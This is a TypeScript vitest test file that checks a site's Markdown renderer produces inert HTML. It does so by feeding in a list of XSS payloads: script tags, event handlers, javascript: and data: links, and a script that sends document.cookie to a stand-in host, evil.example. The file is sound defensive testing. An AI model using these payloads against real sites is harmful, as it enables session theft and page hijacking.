import { describe, expect, it } from "vitest";
import { renderInline, renderMarkdown } from "../../src/site/markdown.ts";
import { isSafeHref } from "../../src/site/sanitize.ts";
import { count, adversarialSuite } from "./hostile-content.ts";

// Every frontmatter field the site renders as Markdown (fix steps, wrong[].why, claims, notes,
// `case`, titles ...) goes through renderMarkdown or renderInline. Whatever a contributor writes
// there, what reaches the page is inert: no element or attribute beyond Markdown's own, and no
// href but https://, a site path or a #fragment.
adversarialSuite("hostile Markdown");

const HOSTILE: [string, string][] = [
  ["a script element", "<script>alert(document.cookie)</script>"],
  ["a script split across lines", "Run this:\n\n<script>\nfetch('https://evil.example/?c=' + document.cookie)\n</script>\n"],
  ["an image with onerror", '<img src="x" onerror="alert(1)">'],
  ["an svg with onload", "<svg onload=alert(1)><circle r=1 /></svg>"],
  ["an iframe", '<iframe src="https://evil.example/"></iframe>'],
  ["a raw link to javascript:", '<a href="javascript:alert(1)">click</a>'],
  ["an event handler on allowed markup", '<strong onmouseover="alert(1)">hover</strong>'],
  ["a style element", "<style>body { display: none }</style>"],
  ["an inline style that loads a URL", '<span style="background:url(https://evil.example/pixel)">x</span>'],
  ["a details element that runs on toggle", "<details open ontoggle=alert(1)>x</details>"],
  ["an object element", '<object data="data:text/html,<script>alert(1)</script>"></object>'],
  ["a form that posts elsewhere", '<form action="https://evil.example/"><input name="q"><button>go</button></form>'],
  ["a meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ["a base element that rewrites links", '<base href="https://evil.example/">'],
  ["an HTML comment that hides text", "<!-- <script>alert(1)</script> --> visible"],
  ["a closing tag that ends the surrounding list", "</li></ol><script>alert(1)</script>"],
  ["a Markdown link to javascript:", "[click](javascript:alert(1))"],
  ["a Markdown link to JavaScript: in mixed case", "[click](JaVaScRiPt:alert(1))"],
  ["an entity-encoded javascript:", "[click](jav&#x61;script:alert(1))"],
  ["a javascript: with a tab inside", "[click](java\tscript:alert(1))"],
  ["a data: link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
  ["a vbscript: link", "[click](vbscript:msgbox(1))"],
  ["a reference-style link to javascript:", "[click][r]\n\n[r]: javascript:alert(1)"],
  ["an autolink to javascript:", "<javascript:alert(1)>"],
  ["a protocol-relative link", "[click](//evil.example/)"],
  ["a backslash host", "[click](/\\evil.example/)"],
  ["an http:// link", "[click](http://evil.example/)"],
  ["an image that loads from another host", "![pixel](https://evil.example/pixel.png)"],
  ["an image with javascript:", "![x](javascript:alert(1))"],
  ["a link title that breaks out of its attribute", '[click](https://github.com/ "a\\" onmouseover=\\"alert(1)")'],
  ["a code span with markup", "`<script>alert(1)</script>` and ```<img src=x onerror=alert(1)>```"],
  ["a fenced block in an unknown language", "```html\n<script>alert(1)</script>\n```"],
];

const ELEMENTS = new Set(["p", "br", "hr", "em", "strong", "del", "code", "pre", "span", "a", "blockquote"]);
for (const tag of ["ul", "ol", "li", "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"]) ELEMENTS.add(tag);
const ATTRIBUTES = new Set(["href", "title", "class", "style", "tabindex", "start", "align"]);

/** What in `html` is not inert: elements or attributes off the list, unsafe hrefs, styles beyond colours. */
function notInert(html: string): string[] {
  const problems: string[] = [];
  for (const [, tag, attributes] of html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)) {
    if (!ELEMENTS.has(tag!.toLowerCase())) problems.push(`element <${tag}>`);
    for (const [, name, value] of attributes!.matchAll(/\s([^\s=/>]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(name!.toLowerCase())) problems.push(`attribute ${name} on <${tag}>`);
      if (name === "href" && !isSafeHref(decodeEntities(value ?? ""))) problems.push(`href ${value}`);
      if (name === "style" && /url\(|expression|@import/i.test(value ?? "")) problems.push(`style ${value}`);
    }
  }
  return problems;
}

function decodeEntities(text: string): string {
  return text.replace(/&#x([0-9a-f]+);/gi, (_, h) => String.fromCodePoint(parseInt(h, 16))).replace(/&amp;/g, "&");
}

describe("Markdown in frontmatter fields, as rendered for a page", () => {
  it.each(HOSTILE)("renders %s inert as a block field (steps, why)", (_, source) => {
    count("script and unsafe links in Markdown fields");
    expect(notInert(renderMarkdown(source))).toEqual([]);
  });

  it.each(HOSTILE)("renders %s inert as an inline field (claim, title, note, case)", (_, source) => {
    expect(notInert(renderInline(source))).toEqual([]);
  });

  it("shows HTML written in a field as the text it is, so a placeholder does not vanish", () => {
    expect(renderInline("Set CUDA for <library>, with <a token with access>")).toBe(
      "Set CUDA for &lt;library&gt;, with &lt;a token with access&gt;",
    );
  });

  it("keeps Markdown's own markup, a highlighted code block and safe links", () => {
    const html = renderMarkdown(
      'Upgrade:\n\n```bash\npip install -U "x>=1"\n```\n\nSee [the fix](/runbooks/a/#fix-b "t") and [the PR](https://github.com/a/b/pull/1).',
    );
    expect(html).toContain('<pre class="shiki');
    expect(html).toContain('<span style="color:');
    expect(html).toContain('<a title="t" href="/runbooks/a/#fix-b">the fix</a>');
    expect(html).toContain('<a href="https://github.com/a/b/pull/1">the PR</a>');
    expect(notInert(html)).toEqual([]);
  });

  it("the inertness check itself flags what it is there to flag", () => {
    expect(notInert('<script>x</script><a href="javascript:x" onclick="y">z</a><span style="background:url(x)">')).toEqual([
      "element <script>",
      "href javascript:x",
      "attribute onclick on <a>",
      "style background:url(x)",
    ]);
  });
});
